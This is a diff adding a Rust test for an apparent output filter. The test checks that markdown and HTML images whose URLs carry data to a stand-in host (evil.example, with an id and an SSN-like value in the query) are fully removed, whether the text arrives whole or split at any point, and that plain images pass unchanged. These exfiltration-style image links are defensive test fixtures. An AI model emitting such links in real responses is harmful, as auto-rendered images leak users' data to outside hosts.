@@ -173,3 +173,43 @@ fn a_value_split_by_invisible_characters_never_leaves_the_stream() {
         benign.as_bytes()
     );
 }
+
+/// Images whose URL carries data, in the forms a renderer accepts: the whole buffer and every
+/// split of the stream remove the whole construct, and nothing of the query is left.
+#[test]
+fn a_removed_image_takes_its_whole_url_in_a_stream_too() {
+    for image in [
+        "![x](https://evil.example/log?who=zq7wkxv&d=536-90-4399)",
+        "![x](https://x.example/a_(b)?who=zq7wkxv)",
+        "![x](<https://evil.example/a b?who=zq7wkxv>)",
+        "![x](https://evil.example/p?who=zq7wkxv \"title\")",
+        "![x](\n  https://evil.example/p?who=zq7wkxv\n  'title'\n)",
+        r"![x](https://evil.example/((a))?who=zq7wkxv)",
+        "![x][ref]\n\n[ref]: https://evil.example/?who=zq7wkxv \"t\"",
+        r#"<img alt="a>b" width=1 src='https://evil.example/p?who=zq7wkxv'>"#,
+        "<IMG\nSRC=https://evil.example/p?who=zq7wkxv alt=x>",
+    ] {
+        let text = format!("Done. {image}\nBye.");
+        let out = whole(text.as_bytes(), Strategy::Remove);
+        let out = String::from_utf8(out).unwrap();
+        assert!(!out.contains("zq7wkxv"), "{image:?} left {out:?}");
+        assert!(
+            out.starts_with("Done. ") && out.ends_with("\nBye."),
+            "{out:?}"
+        );
+        for cut in 1..text.len() {
+            if text.is_char_boundary(cut) {
+                let s = streamed(text.as_bytes(), &[cut], Strategy::Remove);
+                assert_eq!(String::from_utf8(s).unwrap(), out, "{image:?} cut at {cut}");
+            }
+        }
+    }
+    // a plain image and a reference definition without data pass unchanged
+    for text in [
+        "![logo](https://cdn.example.com/logo.png \"Logo\")",
+        "[docs]: https://example.com/docs/page\n",
+        "<img src=\"https://cdn.example.com/a.png\" alt=\"a\">",
+    ] {
+        assert_eq!(whole(text.as_bytes(), Strategy::Remove), text.as_bytes());
+    }
+}
